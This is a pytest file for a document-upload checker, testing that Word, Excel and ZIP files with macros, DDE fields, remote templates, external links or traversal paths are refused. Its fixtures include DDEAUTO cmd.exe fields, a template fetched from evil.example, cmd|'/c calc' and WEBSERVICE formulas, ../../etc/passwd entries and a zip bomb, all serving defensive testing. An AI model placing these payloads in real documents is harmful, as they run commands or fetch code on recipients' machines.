"""Word, Excel and ZIP: detection by content, and refusals."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from domain.errors import InvalidInput
from services.inspection.checker import FileChecker
from services.inspection.office_documents import inspect_material
from tests.factories.documents import archive, content_types, docx, relations, xlsx
from tests.factories.files import jpeg, pdf, png, with_script

ALL = ("pdf", "docx", "xlsx", "jpg", "png", "zip")
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BEGIN, END = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>", "<w:r><w:fldChar w:fldCharType='end'/></w:r>"


def instruction_field(*pieces: str) -> str:
    """A field with its instruction split into runs."""
    return BEGIN + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + END


def page(content: str) -> str:
    return f"<w:document xmlns:w='{W}'><w:body><w:p>{content}</w:p></w:body></w:document>"


FIELD = page(instruction_field("DDEAUTO c:\\windows\\cmd.exe"))


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (docx(), "docx"),
        (xlsx(), "xlsx"),
        (pdf(), "pdf"),
        (jpeg(), "jpg"),
        (png(), "png"),
        (archive({"说明.pdf": pdf(), "模板/表.docx": docx(), "模板/": b""}), "zip"),
        (docx(more={"word/_rels/document.xml.rels": relations(("hyperlink", "https://example.cn", True))}), "docx"),
        (docx(more={"word/media/image1.png": png()}), "docx"),
    ],
)
def test_good_files_are_known_by_what_they_are(content: bytes, kind: str) -> None:
    assert inspect_material(content, ALL) == kind


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "file_active"),
        ({"[Content_Types].xml": content_types(MACROS)}, "file_active"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "file_active"),
        ({"word/activeX/activeX1.xml": b"x"}, "file_active"),
        ({"word/setup.exe": b"MZ"}, "file_active"),
        (
            {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/a.dotm", True))},
            "file_active",
        ),
        ({"word/_rels/document.xml.rels": relations(("image", "https://evil.example/seen.png", True))}, "file_active"),
        ({"word/_rels/document.xml.rels": relations(("oleObject", "file:///c:/a.xlsx", True))}, "file_active"),
        ({"word/document.xml": FIELD}, "file_active"),
        ({"word/document.xml": page(instruction_field("DD", "EAU", "TO c:\\windows\\cmd.exe"))}, "file_active"),
        ({"word/document.xml": page(instruction_field(" ", "&#68;DE", " excel"))}, "file_active"),
        (
            {
                "word/document.xml": page(instruction_field("DDEAUTO x"))
                .replace("w:", "v:")
                .replace("xmlns:w", "xmlns:v")
            },
            "file_active",
        ),
        ({"word/document.xml": page(instruction_field("DDEAUTO x")).encode("utf-16")}, "file_active"),
        ({"word/document.xml": page(BEGIN + instruction_field("QUOTE 68 68 69") + END)}, "file_active"),
        ({"word/document.xml": page("<w:fldSimple w:instr=' ddeauto c:\\cmd.exe'/>")}, "file_active"),
        ({"word/document.xml": page("<w:r><w:instrText>DDE x</w:instrText></w:r>")}, "file_active"),
        ({"word/glossary/footer9.xml": page(instruction_field("INCLUDE", "PICTURE http://x"))}, "file_active"),
        ({"word/document.xml": page("<w:altChunk/>")}, "file_active"),
        ({"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'DDE'>]><x>&a;</x>"}, "file_broken"),
        ({"word/_rels/document.xml.rels": relations(("aFChunk", "chunk.docx", False))}, "file_active"),
        ({"word/_rels/document.xml.rels": relations(("hyperlink", "javascript:x", True))}, "file_active"),
        ({"word/_rels/document.xml.rels": relations(("hyperlink", "\\\\evil\\share", True))}, "file_active"),
        (
            {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "x", True)).replace("Ext", "&#69;xt")},
            "file_active",
        ),
        ({"word/chunk.docx": b"PK"}, "file_active"),
        ({"word/_rels/document.xml.rels": relations(("image", "x", True)).encode("utf-16")}, "file_broken"),
        ({"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><Relationships/>"}, "file_broken"),
        ({"../../etc/passwd": b"x"}, "file_mixed"),
        ({"/etc/passwd.xml": b"x"}, "file_mixed"),
        ({"word\\evil.xml": b"x"}, "file_mixed"),
    ],
)
def test_documents_that_run_fetch_or_hide_something_are_refused(more: dict[str, bytes | str], code: str) -> None:
    with pytest.raises(InvalidInput) as refusal:
        inspect_material(docx(more=more), ALL)
    assert refusal.value.code == code
    assert refusal.value.message.endswith("。")


def test_fields_that_every_document_has_are_taken() -> None:
    fields = (
        instruction_field("PAGE")
        + instruction_field(" TOC \\o ")
        + instruction_field("HYPERLINK ", "\\l x")
        + "<w:fldSimple w:instr='DATE'/>"
    )
    assert inspect_material(docx(more={"word/document.xml": page(fields)}), ALL) == "docx"
    nested = BEGIN + "<w:r><w:instrText>IF </w:instrText></w:r>" + instruction_field("PAGE") + END
    assert inspect_material(docx(more={"word/document.xml": page(nested)}), ALL) == "docx"


@pytest.mark.parametrize(
    "formula", ["=WEBSERVICE(&quot;http://x&quot;)", "cmd|'/c calc'!A0", "_xlfn.IMAGE(A1)", "=CALL(1)"]
)
def test_a_workbook_whose_cells_fetch_or_run_is_refused(formula: str) -> None:
    cell = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    with pytest.raises(InvalidInput) as refusal:
        inspect_material(replace_member(xlsx(), "xl/worksheets/sheet1.xml", cell), ALL)
    assert refusal.value.code == "file_active"


@pytest.mark.parametrize("kind", ["externalLink", "connections", "xlMacrosheet", "vbaProject", "queryTable"])
def test_a_workbook_that_hides_what_it_takes_under_another_name_is_refused(kind: str) -> None:
    with pytest.raises(InvalidInput, match="外部链接"):
        inspect_material(replace_member(xlsx(), "xl/_rels/workbook.xml.rels", relations((kind, "a.xml", False))), ALL)


def replace_member(content: bytes, name: str, part: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        return archive({member: old.read(member) for member in old.namelist()} | {name: part})


def test_a_document_in_an_archive_is_looked_into_like_any_other() -> None:
    with pytest.raises(InvalidInput, match=r"压缩包中的“a/b.docx”不能使用：文件中含有宏"):
        inspect_material(archive({"a/b.docx": docx(more={"word/document.xml": FIELD})}), ALL)
    with pytest.raises(InvalidInput, match="脚本"):
        inspect_material(archive({"b.pdf": pdf(1, with_script)}), ALL)


def test_a_workbook_that_reads_another_is_refused() -> None:
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a") as book:
        book.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    with pytest.raises(InvalidInput, match="外部链接"):
        inspect_material(out.getvalue(), ALL)


def test_a_pool_without_archives_refuses_them_and_says_what_it_takes() -> None:
    with pytest.raises(InvalidInput, match=r"只能上传PDF、Word文档（.docx），这个文件是ZIP压缩包"):
        inspect_material(archive({"a.pdf": pdf()}), ("pdf", "docx"))
    with pytest.raises(InvalidInput, match="旧版Word或Excel"):
        inspect_material(b"\xd0\xcf\x11\xe0" + b"\0" * 600, ALL)
    with pytest.raises(InvalidInput, match="无法识别"):
        inspect_material(b"hello", ALL)


def test_an_archive_may_hold_documents_only() -> None:
    with pytest.raises(InvalidInput, match="只能放PDF"):
        inspect_material(archive({"a.pdf": pdf(), "b.exe": b"MZ"}), ALL)


def test_what_holds_for_attachments_holds_here_too() -> None:
    with pytest.raises(InvalidInput, match="脚本"):
        inspect_material(pdf(1, with_script), ALL)
    with pytest.raises(InvalidInput) as refusal:
        inspect_material(jpeg() + archive({"a.txt": b"x"}), ALL)
    assert refusal.value.code == "file_mixed"


def test_what_unpacks_without_end_is_not_unpacked() -> None:
    bomb = docx(more={f"word/media/{number}.xml": b"\0" * 40_000_000 for number in range(8)})
    assert len(bomb) < 1_000_000
    with pytest.raises(InvalidInput, match="解压后过大"):
        inspect_material(bomb, ALL)


def test_locked_damaged_and_doubled_archives_are_refused() -> None:
    whole = docx()
    for content in (whole[:-30], whole[:60] + b"\xff" * 40 + whole[100:], b"PK\x03\x04" + b"\0" * 50):
        with pytest.raises(InvalidInput) as refusal:
            inspect_material(content, ALL)
        assert refusal.value.code in ("file_broken", "file_type")
    locked = bytearray(whole)
    at = whole.index(b"PK\x01\x02")
    struct.pack_into("<H", locked, at + 8, 1)
    with pytest.raises(InvalidInput, match="加密"):
        inspect_material(bytes(locked), ALL)
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as doubled, pytest.warns(UserWarning, match="Duplicate"):
        doubled.writestr("word/document.xml", "<other/>")
    with pytest.raises(InvalidInput) as refusal:
        inspect_material(out.getvalue(), ALL)
    assert refusal.value.code == "file_mixed"


async def test_it_happens_in_a_process_of_its_own() -> None:
    checker = FileChecker()
    assert await checker.check_material("gd", docx(), ("docx",)) == "docx"
    with pytest.raises(InvalidInput, match="PDF"):
        await checker.check_material("gd", docx(), ("pdf",))
